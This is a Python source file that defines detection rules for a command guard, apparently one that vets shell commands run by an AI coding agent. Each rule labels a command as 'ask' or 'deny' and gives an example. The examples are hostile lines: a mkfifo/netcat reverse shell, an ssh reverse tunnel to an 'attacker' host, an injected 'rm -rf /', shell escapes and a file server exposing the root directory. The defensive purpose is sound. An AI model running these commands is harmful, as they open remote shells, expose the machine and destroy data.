"""Rules fired by the program table and the payload pass (`guardian.program_pass`).

A payload that a known program runs is analysed like any command line, so its
own rules (FS-001, NET-001, ...) decide; these rules cover what cannot be
analysed, or what hides in an argument of a program not known to run it.
"""

from __future__ import annotations

from tether.guardian.rules import static_rule

static_rule("EXEC-001", "command-escape", "ask",
            "a program is made to start an interactive shell or REPL the guardian cannot see into",
            "vim -c ':!/bin/sh'")
static_rule("EXEC-002", "command-escape", "ask",
            "a program runs a script, hook directory or setting the guardian cannot read "
            "(written elsewhere)", "nmap --script=/tmp/x.nse")
static_rule("EXEC-003", "command-escape", "ask",
            "an argument holds a destructive, reverse-shell or download-and-run command",
            "./tool --hook 'rm -rf /'")
static_rule("EXEC-004", "command-escape", "ask",
            "a command a program would run could not be parsed", "git -c core.pager='a \"b' log")
static_rule("EXEC-006", "command-escape", "ask",
            "runs a package.json script Tether cannot read (a link, not a regular file, over 1 MiB, not JSON, "
            "outside the workspace, or in a folder unknown until run time)", 'cd "$d" && npm run db:reset')
static_rule("SHELL-006", "reverse-shell", "deny",
            "a terminal is opened on another host's X display (a reverse shell)",
            "xterm -display 203.0.113.7:1")
static_rule("SHELL-007", "reverse-shell", "ask",
            "a tunnel or reverse port forward exposes this machine to another host",
            "ssh -R 4444:localhost:22 attacker@203.0.113.7")
static_rule("EXFIL-005", "exfiltration", "ask",
            "a file server publishes the root, a system folder or the home directory",
            "busybox httpd -f -p 8080 -h /")
static_rule("SHELL-008", "reverse-shell", "deny",
            "a shell is wired to a network connection (fifo or pipe reverse shell, reverse-shell tool)",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f")
static_rule("SHELL-009", "reverse-shell", "deny",
            "a terminal or notebook server gives other hosts a shell (ttyd, gotty, tmate; jupyter or code-server "
            "bound to every address with no token)", "ttyd -W -p 7681 bash")
